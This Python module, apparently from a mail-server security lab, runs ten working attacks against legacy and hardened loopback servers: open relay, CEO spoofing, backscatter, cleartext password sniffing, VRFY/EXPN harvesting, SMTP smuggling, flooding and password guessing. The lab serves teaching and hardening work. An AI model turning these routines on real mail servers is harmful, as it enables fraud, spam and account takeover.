"""The attacks: each one run against both sides, its outcome read from the capture points.

An attack is a function ``(lab, side, run)``: it speaks to the side through the side's
recording proxies (a blocking client, bytes exactly as written), keeps the client's view
in ``run.transcript``, then looks at the capture points (the remote sink, the forged
sender's mailbox, the local maildirs, the wire recording) and records what they show in
``run.consequences`` (catalogue keys with parameters, so they can be told in any language)
and ``run.succeeded``. Nothing here decides the outcome from the server's replies alone.
"""

from __future__ import annotations

import base64
import re
import secrets
import socket
import ssl
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from mailfort.audit.client import ProbeError, RawClient, insecure_context, trim
from mailfort.audit.context import imap_capabilities, imap_greeting
from mailfort.lab.capture import Captured, Chunk
from mailfort.lab.harness import (
    ATTACKER_IP,
    DOMAIN,
    FORGED_DOMAIN,
    LOOPBACK,
    PASSWORDS,
    REMOTE_DOMAIN,
    Lab,
    Side,
)

TIMEOUT = 5.0
ALICE, BOB, CAROL, MALLORY = (f"{u}@{DOMAIN}" for u in ("alice", "bob", "carol", "mallory"))


@dataclass
class SideRun:
    """What one attack did on one side."""

    transcript: list[str] = field(default_factory=list)
    consequences: list[tuple[str, dict[str, Any]]] = field(default_factory=list)
    succeeded: bool = False
    found: dict[str, Any] = field(default_factory=dict)  # what the attacker got (tests)
    wire: list[str] = field(default_factory=list)  # what an eavesdropper saw (sniff)
    seconds: float = 0.0

    def note(self, key: str, **params: Any) -> None:
        self.consequences.append((key, params))


@dataclass
class AttackRun:
    name: str
    sides: dict[str, SideRun]


class Client(RawClient):
    """The attacker's raw client, from a chosen loopback address, slowed by ``pace``."""

    def __init__(self, port: int, transcript: list[str], *, source: str = LOOPBACK,
                 pace: float = 0.0) -> None:
        self.host, self.port, self.timeout = LOOPBACK, port, TIMEOUT
        self.transcript = transcript
        self.buf = b""
        self.closed = False
        self.pace = pace
        try:
            self.sock = socket.create_connection((LOOPBACK, port), timeout=TIMEOUT,
                                                 source_address=(source, 0))
        except OSError as exc:
            raise ProbeError(f"connect {LOOPBACK}:{port}: {exc}") from exc

    def send(self, data: bytes, *, note: str | None = None) -> None:
        if self.pace:
            time.sleep(self.pace)
        super().send(data, note=note)

    def reply(self, timeout: float | None = None) -> tuple[int, list[str]]:
        """One SMTP reply; a multi-line one (EHLO) is shown on one transcript line."""
        mark = len(self.transcript)
        code, texts = super().reply(timeout)
        if len(self.transcript) - mark > 1:
            del self.transcript[mark:]
            self.transcript.append(f"< {code} " + " | ".join(texts))
        return code, texts

    def smtp_data(self, message: str) -> tuple[int, list[str]]:
        """DATA, then the message (CRLF, dot-stuffed by hand: it has no lone dots)."""
        code, text = self.cmd("DATA")
        if code != 354:
            return code, text
        body = message.replace("\n", "\r\n").encode()
        self.send(body + b"\r\n.\r\n", note=f"[message: {trim(message.splitlines()[0])} …]")
        return self.reply()


def _plain(user: str, password: str) -> str:
    return base64.b64encode(f"\0{user}\0{password}".encode()).decode()


def _marker(name: str) -> str:
    return f"lab-{name}-{secrets.token_hex(4)}"


def _wait_for(found: Callable[[], list[Any]], seconds: float) -> list[Any]:
    """Poll a capture point until it shows something or ``seconds`` pass."""
    deadline = time.monotonic() + seconds
    while True:
        got = found()
        if got or time.monotonic() >= deadline:
            return got
        time.sleep(0.05)


def _with_marker(messages: list[Captured], marker: str) -> list[Captured]:
    return [m for m in messages if marker.encode() in m.data]


def _connect(side: Side, service: str, run: SideRun, pace: float, *,
             source: str = LOOPBACK) -> Client | None:
    port = side.port(service)
    if port is None:
        run.transcript.append(f"  [no {service} service on this server]")
        return None
    c = Client(port, run.transcript, source=source, pace=pace)
    run.transcript.append(f"  [connect {service} ({'port 25' if service == 'mx' else service})]")
    if service == "imap":
        imap_greeting(c)  # "* OK [CAPABILITY …]": one line, not an SMTP reply
    else:
        c.reply()
    return c


def _session(fn: Callable[[], None], run: SideRun) -> None:
    """Run one client session; a dropped connection is part of the story, not an error."""
    try:
        fn()
    except ProbeError as exc:
        run.transcript.append(f"  [{exc}]")


# ---------------------------------------------------------------------------- attacks


def one_door(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """A stranger with no account submits mail on port 25 as a local user."""
    marker = _marker("one-door")
    accepted = False

    def mx() -> None:
        nonlocal accepted
        c = _connect(side, "mx", run, pace)
        assert c is not None
        _, ehlo = c.cmd("EHLO stranger.example")
        run.found["auth_on_25"] = any(t.upper().startswith("AUTH") for t in ehlo)
        c.cmd(f"MAIL FROM:<{ALICE}>")
        code, _ = c.cmd(f"RCPT TO:<partner@{REMOTE_DOMAIN}>")
        if code == 250:
            code, _ = c.smtp_data(f"From: <{ALICE}>\nTo: <partner@{REMOTE_DOMAIN}>\n"
                                  f"Subject: New bank details ({marker})\n\n"
                                  "Please pay the invoice to the new account.\n")
            accepted = code == 250
        c.quit()

    def submission() -> None:
        c = _connect(side, "submission", run, pace)
        if c is None:
            return
        c.cmd("EHLO stranger.example")
        c.cmd(f"MAIL FROM:<{ALICE}>")
        c.quit()

    _session(mx, run)
    _session(submission, run)
    arrived = _with_marker(_wait_for(lambda: _with_marker(side.sink.snapshot(), marker),
                                     6.0 if accepted else 0.3), marker)
    run.found["arrived"] = len(arrived)
    run.succeeded = bool(arrived)
    run.note("auth.offered-on-25" if run.found.get("auth_on_25") else "auth.not-on-25")
    run.note("sink.arrived" if arrived else "sink.empty", n=len(arrived))


def open_relay(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """Third-party relay: a stranger's spam for a foreign domain, through this server."""
    marker = _marker("open-relay")
    accepted = False

    def mx() -> None:
        nonlocal accepted
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO spam-engine.example")
        c.cmd("MAIL FROM:<offers@spam-engine.example>")
        code, _ = c.cmd(f"RCPT TO:<victim@{REMOTE_DOMAIN}>")
        if code == 250:
            code, _ = c.smtp_data(f"From: <offers@spam-engine.example>\n"
                                  f"To: <victim@{REMOTE_DOMAIN}>\n"
                                  f"Subject: Cheap watches ({marker})\n\nBuy now!\n")
            accepted = code == 250
        c.quit()

    _session(mx, run)
    arrived = _wait_for(lambda: _with_marker(side.sink.snapshot(), marker),
                        6.0 if accepted else 0.3)
    run.found["arrived"] = len(arrived)
    run.succeeded = bool(arrived)
    if arrived:
        received = arrived[0].data.count(b"\nReceived:") + arrived[0].data.startswith(
            b"Received:")
        run.note("sink.relayed", host=side.node.cfg.server.hostname if side.node else "?",
                 received=received)
    else:
        run.note("sink.empty", n=0)


def spoofing(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """mallory, a local user, sends to bob as the CEO."""
    marker = _marker("spoofing")
    password = PASSWORDS[MALLORY]
    forged = f"From: CEO <ceo@{DOMAIN}>\nTo: <{BOB}>\nSubject: Urgent transfer ({marker})\n\n" \
             "Wire 48,000 EUR today. Do not call me.\n"

    def legacy() -> None:
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO mallory-pc")
        c.cmd(f"AUTH PLAIN {_plain(MALLORY, password)}")
        c.cmd(f"MAIL FROM:<ceo@{DOMAIN}>")
        if c.cmd(f"RCPT TO:<{BOB}>")[0] == 250:
            c.smtp_data(forged)
        c.quit()

    def hardened() -> None:
        c = _connect(side, "submission", run, pace)
        assert c is not None
        c.cmd("EHLO mallory-pc")
        c.cmd("STARTTLS")
        c.starttls(insecure_context())
        c.cmd("EHLO mallory-pc")
        c.cmd(f"AUTH PLAIN {_plain(MALLORY, password)}")
        c.cmd(f"MAIL FROM:<ceo@{DOMAIN}>")
        c.cmd("RSET")
        c.cmd(f"MAIL FROM:<{MALLORY}>")
        if c.cmd(f"RCPT TO:<{BOB}>")[0] == 250:
            c.smtp_data(forged)
        c.quit()

    def from_outside() -> None:
        # The same forgery from a stranger's machine, straight to the MX: only the lab
        # domain's published SPF and DMARC (lab/dns.py) can tell it is not the CEO's.
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO mail.stranger.example")
        c.cmd(f"MAIL FROM:<ceo@{DOMAIN}>")
        if c.cmd(f"RCPT TO:<{BOB}>")[0] == 250:
            c.smtp_data(forged)
        c.quit()

    _session(legacy if side.legacy else hardened, run)
    _session(from_outside, run)
    stored = [m for m in side.mailbox(BOB) if marker.encode() in m]
    run.found["stored"] = len(stored)
    run.succeeded = any(b"From: CEO <ceo@" in m for m in stored)
    run.note("mailbox.forged" if run.succeeded else "mailbox.clean", user=BOB)


def backscatter(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """Spam to an unknown user with a forged sender: who gets the bounce?"""
    marker = _marker("backscatter")
    victim = f"victim@{FORGED_DOMAIN}"
    accepted = False

    def mx() -> None:
        nonlocal accepted
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO spam-engine.example")
        c.cmd(f"MAIL FROM:<{victim}>")
        c.cmd(f"RCPT TO:<no-such-user-{secrets.token_hex(2)}@{DOMAIN}>")
        code, _ = c.smtp_data(f"From: <{victim}>\nSubject: Cheap pills ({marker})\n\n"
                              "Spam that the bounce will carry to the victim.\n")
        accepted = code == 250
        c.quit()

    _session(mx, run)
    bounces = _wait_for(lambda: _with_marker(side.forged.snapshot(), marker),
                        6.0 if accepted else 0.5)
    run.found["bounces"] = len(bounces)
    run.succeeded = bool(bounces)
    if bounces:
        run.note("forged.bounce", to=victim, spam=marker.encode() in bounces[0].data)
    else:
        run.note("forged.nothing", to=victim)


def vacation_backscatter(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """Forged-sender mail to a user on vacation: who gets the auto-reply?"""
    marker = _marker("vacation")
    victim = f"victim@{FORGED_DOMAIN}"
    accepted = False

    def mx() -> None:
        nonlocal accepted
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO spam-engine.example")
        c.cmd(f"MAIL FROM:<{victim}>")
        c.cmd(f"RCPT TO:<{CAROL}>")
        code, _ = c.smtp_data(f"From: <{victim}>\nTo: <{CAROL}>\nSubject: Hello ({marker})\n"
                              f"Message-ID: <{marker}@spam-engine.example>\n"
                              "\nSpam that makes the responder write to the victim.\n")
        accepted = code == 250
        c.quit()

    _session(mx, run)
    # A reply names the message it answers (In-Reply-To: the marker).
    if accepted:  # stored first; a reply leaves after that, through the queue
        _wait_for(lambda: [m for m in side.mailbox(CAROL) if marker.encode() in m], 5.0)
    replies = _wait_for(lambda: _with_marker(side.forged.snapshot(), marker),
                        (6.0 if side.legacy else 1.5) if accepted else 0.5)
    run.found["replies"] = len(replies)
    run.succeeded = bool(replies)
    if replies:
        run.note("forged.autoreply", to=victim)
    else:
        run.note("forged.nothing", to=victim)


# An IMAP string on a command line: quoted, an atom, or (at the end) a literal's
# announcement {N} or {N+}, whose N octets start the client's next line.
_IMAP_WORD = re.compile(rb' *(?:"((?:[^"\\]|\\.)*)"|\{(\d+)\+?\}$|([^ "]+))')


def _imap_words(line: bytes) -> tuple[list[bytes], int | None]:
    """The words of an IMAP command line, and the size of the literal it announces."""
    words: list[bytes] = []
    pos = 0
    while pos < len(line):
        m = _IMAP_WORD.match(line, pos)
        if m is None or m.end() == pos:
            break
        pos = m.end()
        if m.group(2) is not None:
            return words, int(m.group(2))
        quoted = m.group(1)
        words.append(re.sub(rb"\\(.)", rb"\1", quoted) if quoted is not None else m.group(3))
    return words, None


def _plain_password(token: bytes) -> str | None:
    """The password inside a SASL PLAIN response (base64 of authzid NUL authcid NUL pw)."""
    try:
        parts = base64.b64decode(token, validate=True).split(b"\0")
    except ValueError:
        return None
    return parts[2].decode("utf-8", "replace") if len(parts) == 3 else None


class _Eavesdropper:
    """Reads the client's lines of one connection as someone on the path would, and keeps
    every password found with how it travelled (``SMTP AUTH PLAIN``, ``IMAP LOGIN``…)."""

    def __init__(self, service: str, found: dict[str, list[str]]) -> None:
        self.imap = service.startswith("imap")
        self.found = found
        self.pending: str | None = None  # a SASL response is expected next (its label)
        self.login_user: str | None = None  # SMTP AUTH LOGIN: "" before the user name
        self.words: list[bytes] | None = None  # an IMAP command waiting for its literal
        self.literal: int | None = None

    def keep(self, password: str | None, how: str) -> None:
        if not password:  # an empty one (the lab's LOGIN without it) reveals nothing
            return
        ways = self.found.setdefault(password, [])
        if how not in ways:
            ways.append(how)

    def line(self, raw: bytes) -> None:
        if self.pending is not None:
            how, self.pending = self.pending, None
            self.keep(_plain_password(raw), how)
        elif self.imap:
            self._imap(raw)
        else:
            self._smtp_pop3(raw.decode("latin-1"))

    def _smtp_pop3(self, text: str) -> None:
        words = text.split()
        head = [w.upper() for w in words[:2]]
        if head == ["AUTH", "PLAIN"]:
            if len(words) == 3:
                self.keep(_plain_password(words[2].encode()), "SMTP AUTH PLAIN")
            else:
                self.pending = "SMTP AUTH PLAIN"
        elif head[:1] == ["PASS"] and len(text) > 5:
            self.keep(text[5:], "POP3 PASS")
        elif head == ["AUTH", "LOGIN"]:
            self.login_user = ""
        elif self.login_user is not None:
            try:
                value = base64.b64decode(text, validate=True).decode("utf-8")
            except ValueError:
                self.login_user = None
                return
            if self.login_user:
                self.keep(value, "SMTP AUTH LOGIN")
                self.login_user = None
            else:
                self.login_user = value

    def _imap(self, raw: bytes) -> None:
        if self.words is not None and self.literal is not None:
            # The literal's octets start this line, then the command goes on.
            value, rest = raw[:self.literal], raw[self.literal:]
            more, self.literal = _imap_words(rest)
            self.words += [value, *more]
        else:
            self.words, self.literal = _imap_words(raw)
        if self.literal is not None:
            return
        words, self.words = self.words, None
        name = [w.upper() for w in words[1:3]]
        if name[:1] == [b"LOGIN"] and len(words) >= 4:
            self.keep(words[3].decode("utf-8", "replace"), "IMAP LOGIN")
        elif name == [b"AUTHENTICATE", b"PLAIN"]:
            if len(words) >= 4:  # SASL-IR: the response on the command line
                self.keep(_plain_password(words[3]), "IMAP AUTHENTICATE PLAIN")
            else:
                self.pending = "IMAP AUTHENTICATE PLAIN"


def _sniff(connections: dict[str, list[Chunk]]
           ) -> tuple[dict[str, list[str]], int, int, list[str]]:
    """What an eavesdropper gets from recorded bytes (per service, per connection):
    passwords (each with the ways it travelled, in order), octets in clear and in TLS
    records, and what the client was seen to send."""
    found: dict[str, list[str]] = {}
    clear = tls = 0
    lines: list[str] = []
    for service, chunks in connections.items():
        by_conn: dict[int, list[Chunk]] = {}
        for ch in chunks:
            by_conn.setdefault(ch.conn, []).append(ch)
        for conn_chunks in by_conn.values():
            lines.append(f"[{service}]")
            in_tls = False
            tls_here = 0
            ear = _Eavesdropper(service, found)
            for ch in conn_chunks:
                if in_tls or ch.data[:1] in (b"\x14", b"\x15", b"\x16", b"\x17"):
                    in_tls = True
                    tls_here += len(ch.data)
                    continue
                clear += len(ch.data)
                if ch.direction != ">":
                    continue
                for raw in ch.data.split(b"\r\n"):
                    if raw:
                        lines.append(f"> {trim(raw)}")
                        ear.line(raw)
            if tls_here:
                lines.append(f"  [then {tls_here} octets of TLS records: unreadable]")
                tls += tls_here
    return found, clear, tls, lines


def sniff(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """alice sends and reads mail (SMTP, POP3, IMAP); what does someone on the path read?"""
    marker = _marker("sniff")
    password = PASSWORDS[ALICE]
    services = ["mx", "pop3", "imap"] if side.legacy else ["submission", "pop3", "imap"]
    marks = {s: side.proxies[s].recording.mark() for s in services}
    text = f"From: <{ALICE}>\nTo: <{BOB}>\nSubject: Salaries 2026 ({marker})\n\n" \
           "Confidential: the salary list is attached.\n"

    def smtp() -> None:
        c = _connect(side, services[0], run, pace)
        assert c is not None
        c.cmd("EHLO alice-laptop")
        if not side.legacy:
            c.cmd("STARTTLS")
            c.starttls(insecure_context())
            c.cmd("EHLO alice-laptop")
        c.cmd(f"AUTH PLAIN {_plain(ALICE, password)}")
        c.cmd(f"MAIL FROM:<{ALICE}>")
        c.cmd(f"RCPT TO:<{BOB}>")
        c.smtp_data(text)
        c.quit()

    def pop3() -> None:
        c = _connect(side, "pop3", run, pace)
        assert c is not None
        if not side.legacy:
            c.send(b"STLS\r\n")
            c.status()
            c.starttls(insecure_context())
        c.send(f"USER {ALICE}\r\n".encode())
        c.status()
        c.send(f"PASS {password}\r\n".encode(), note="PASS ********")
        c.status()
        c.send(b"STAT\r\n")
        c.status()
        c.quit(pop3=True)

    def imap() -> None:
        # As a mail program does: it reads the capabilities and logs in as they allow.
        c = _connect(side, "imap", run, pace)
        assert c is not None
        if "LOGINDISABLED" in imap_capabilities(c):
            # No password may be sent yet (RFC 9051 §6.2.3). To show the refusal, a LOGIN
            # without one: the server refuses it before it looks at any password.
            run.transcript.append("  [LOGINDISABLED: LOGIN sent without the password]")
            status, _ = c.imap("A", f'LOGIN {ALICE} ""')
            refused = status != "OK" and "[PRIVACYREQUIRED]" in run.transcript[-1].upper()
            run.found["imap"] = "login-refused" if refused else "login-in-clear"
            if c.imap("S", "STARTTLS")[0] == "OK":
                c.starttls(insecure_context())
                imap_capabilities(c)
        c.send(f'L LOGIN {ALICE} "{password}"\r\n'.encode(),
               note=f'L LOGIN {ALICE} "********"')
        status, _ = c.tagged("L")
        if status == "OK" and not isinstance(c.sock, ssl.SSLSocket):
            run.found["imap"] = "login-in-clear"
        if status == "OK":
            c.imap("T", "STATUS INBOX (MESSAGES)")
        c.quit(imap=True)

    _session(smtp, run)
    _session(pop3, run)
    _session(imap, run)
    time.sleep(0.1)  # the proxy's last chunks
    recorded = {s: side.proxies[s].recording.since(marks[s]) for s in services}
    found, clear, tls, lines = _sniff(recorded)
    wire_text = b"".join(ch.data for chunks in recorded.values() for ch in chunks)
    run.wire = lines[:60]
    run.found.update(passwords=sorted(found), captured=found, clear=clear, tls=tls,
                     message_seen=marker.encode() in wire_text)
    run.succeeded = password in found
    for pw, how in sorted(found.items()):
        run.note("wire.password", password=pw, via=[("wire.via", {"how": h}) for h in how])
    if not found:
        run.note("wire.no-password")
    run.note("wire.message" if run.found["message_seen"] else "wire.no-message")
    if run.found.get("imap") in ("login-in-clear", "login-refused"):
        run.note("imap." + run.found["imap"])
    run.note("wire.octets", clear=clear, tls=tls)


WORDLIST = ["admin", "alice", "bob", "carol", "ceo", "info", "mallory", "postmaster", "root",
            "sales", "team", "webmaster"]


def vrfy(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """Harvest accounts with VRFY, and where aliases lead with EXPN."""
    users: list[str] = []
    expanded: dict[str, list[str]] = {}

    def mx() -> None:
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO harvester.example")
        for name in WORDLIST:
            code, text = c.cmd(f"VRFY {name}")
            if code == 250:
                users.append(name)
        for alias in ("team", "ceo"):
            code, text = c.cmd(f"EXPN {alias}")
            if code == 250:
                expanded[alias] = [re.sub(r"^[\d.]+ ", "", t).strip("<>") for t in text]
        c.quit()

    _session(mx, run)
    run.found.update(users=users, expanded=expanded)
    run.succeeded = bool(users or expanded)
    if users:
        run.note("vrfy.users", n=len(users), tried=len(WORDLIST), users=", ".join(users))
    else:
        run.note("vrfy.nothing", tried=len(WORDLIST))
    for alias, targets in expanded.items():
        run.note("expn.alias", alias=alias, targets=", ".join(targets))


def smuggling(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """A second message, with a forged sender, hidden behind <LF>.<LF> in the first."""
    marker = _marker("smuggling")
    replies: list[int] = []

    def mx() -> None:
        c = _connect(side, "mx", run, pace)
        assert c is not None
        c.cmd("EHLO newsletter.example")
        c.cmd(f"MAIL FROM:<news@{REMOTE_DOMAIN}>")
        c.cmd(f"RCPT TO:<{BOB}>")
        c.cmd("DATA")
        payload = (f"From: <news@{REMOTE_DOMAIN}>\r\nSubject: Newsletter\r\n\r\nHello.\r\n"
                   f"\n.\nMAIL FROM:<ceo@{DOMAIN}>\r\nRCPT TO:<{BOB}>\r\nDATA\r\n"
                   f"From: CEO <ceo@{DOMAIN}>\r\nSubject: Smuggled ({marker})\r\n\r\n"
                   "Pay the invoice today.\r\n.\r\n")
        c.send(payload.encode())
        while len(replies) < 5:
            try:  # legacy answers five times (two messages), hardened once
                replies.append(c.reply(TIMEOUT if not replies else 0.5)[0])
            except ProbeError:
                break
        c.quit()

    _session(mx, run)
    stored = [m for m in side.mailbox(BOB) if marker.encode() in m]
    run.found.update(replies=replies, stored=len(stored))
    run.succeeded = bool(stored)
    run.note("mailbox.smuggled" if stored else "mailbox.not-smuggled", user=BOB,
             replies=" ".join(map(str, replies)))


def overflow(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """An oversized command line, then a flood of recipients in one transaction."""
    line_octets = 20_000
    flood = 2_000
    got: dict[str, Any] = {}

    def mx() -> None:
        c = _connect(side, "mx", run, pace)
        assert c is not None
        code, _ = c.cmd("HELO " + "A" * line_octets)
        got["long_line"] = code
        if c.closed:
            return
        c.cmd("EHLO flooder.example")
        c.cmd(f"MAIL FROM:<flood@{REMOTE_DOMAIN}>")
        c.send(f"RCPT TO:<{BOB}>\r\n".encode() * flood,
               note=f"RCPT TO:<{BOB}> × {flood} (pipelined)")
        quiet: list[str] = []
        codes: list[int] = []
        saved, c.transcript = c.transcript, quiet
        try:
            while len(codes) < flood:
                codes.append(c.reply()[0])
                if codes[-1] == 421:
                    break
        except ProbeError as exc:
            quiet.append(f"  [{exc}]")
        finally:
            c.transcript = saved
        summary: dict[int, int] = {}
        for code in codes:
            summary[code] = summary.get(code, 0) + 1
        run.transcript.append("< " + ", ".join(f"{k} × {v}" for k, v in summary.items()))
        got["accepted"] = summary.get(250, 0)
        got["closed"] = 421 in summary
        got["held"], got["held_octets"] = lab.call(_held_recipients(side))
        c.quit()

    _session(mx, run)
    run.found.update(got)
    long_ok = got.get("long_line") == 250
    run.succeeded = long_ok or got.get("accepted", 0) > 100
    run.note("overflow.line-accepted" if long_ok else "overflow.line-refused",
             octets=line_octets, code=got.get("long_line", "-"))
    run.note("overflow.rcpt", accepted=got.get("accepted", 0), sent=flood,
             held=got.get("held", 0), kib=got.get("held_octets", 0) // 1024)
    if got.get("closed"):
        run.note("overflow.closed")


async def _held_recipients(side: Side) -> tuple[int, int]:
    """What the server itself holds for the open MX sessions: recipients in the envelope
    and the octets they take (read on the lab's loop, from the sessions)."""
    assert side.node is not None
    envelopes = [sess.envelope for sess in side.node.services["mx"].sessions]
    held = max((len(env.rcpts) for env in envelopes), default=0)
    octets = max((sys.getsizeof(env.rcpts) + sum(sys.getsizeof(r) for r in env.rcpts)
                  for env in envelopes), default=0)
    return held, octets


GUESSES = ["123456", "password", "qwerty", "bob", "bob123", "welcome", "dragon", "letmein",
           PASSWORDS[BOB]]


def guessing(lab: Lab, side: Side, run: SideRun, pace: float) -> None:
    """Passwords for bob tried over SMTP AUTH, then over POP3, from the attacker's address."""
    tries: list[tuple[str, str, str, float]] = []  # (protocol, guess, outcome, seconds)
    smtp_words, pop_words = GUESSES[:5], GUESSES[5:]

    def smtp() -> None:
        service = "mx" if side.legacy else "submission"
        c = _connect(side, service, run, pace, source=ATTACKER_IP)
        assert c is not None
        c.cmd("EHLO guesser.example")
        if not side.legacy:
            c.cmd("STARTTLS")
            c.starttls(insecure_context())
            c.cmd("EHLO guesser.example")
        for word in smtp_words:
            t = time.monotonic()
            code, _ = c.cmd(f"AUTH PLAIN {_plain(BOB, word)}")
            tries.append(("SMTP", word, str(code), time.monotonic() - t))
            run.transcript.append(f"  [{word!r}: answered after {tries[-1][3]:.2f} s]")
            if code in (235, 421) or c.closed:
                break
        c.quit()

    def pop3() -> None:
        words = list(pop_words)
        while words:
            c = _connect(side, "pop3", run, pace, source=ATTACKER_IP)
            assert c is not None
            if not side.legacy:
                c.send(b"STLS\r\n")
                c.status()
                c.starttls(insecure_context())
            try:
                while words:
                    word = words[0]
                    t = time.monotonic()
                    c.send(f"USER {BOB}\r\n".encode())
                    c.status()
                    c.send(f"PASS {word}\r\n".encode())
                    ok, _ = c.status()
                    words.pop(0)
                    tries.append(("POP3", word, "+OK" if ok else "-ERR",
                                  time.monotonic() - t))
                    run.transcript.append(f"  [{word!r}: answered after {tries[-1][3]:.2f} s]")
                    if ok:
                        words.clear()
            except ProbeError as exc:  # the server ended the session: connect again
                run.transcript.append(f"  [{exc}]")
            c.quit(pop3=True)

    _session(smtp, run)
    _session(pop3, run)
    hit = [t for t in tries if t[2] in ("235", "+OK")]
    run.found.update(tries=tries, password=hit[0][1] if hit else None)
    run.succeeded = bool(hit)
    run.note("guess.tries", n=len(tries), seconds=f"{sum(t[3] for t in tries):.1f}",
             slowest=f"{max((t[3] for t in tries), default=0):.2f}")
    if hit:
        run.note("guess.found", user=BOB, password=hit[0][1], via=hit[0][0])
    else:
        run.note("guess.refused", user=BOB)


ATTACKS: dict[str, Callable[[Lab, Side, SideRun, float], None]] = {
    "one-door": one_door,
    "open-relay": open_relay,
    "spoofing": spoofing,
    "backscatter": backscatter,
    "vacation-backscatter": vacation_backscatter,
    "sniff": sniff,
    "vrfy": vrfy,
    "smuggling": smuggling,
    "overflow": overflow,
    "guessing": guessing,
}


def run_attack(lab: Lab, name: str, pace: float = 0.0) -> AttackRun:
    """One attack against the legacy side, then the hardened side."""
    fn = ATTACKS[name]
    sides: dict[str, SideRun] = {}
    for side_name, side in lab.sides.items():
        run = SideRun()
        t = time.monotonic()
        fn(lab, side, run, pace)
        run.seconds = time.monotonic() - t
        sides[side_name] = run
    return AttackRun(name, sides)
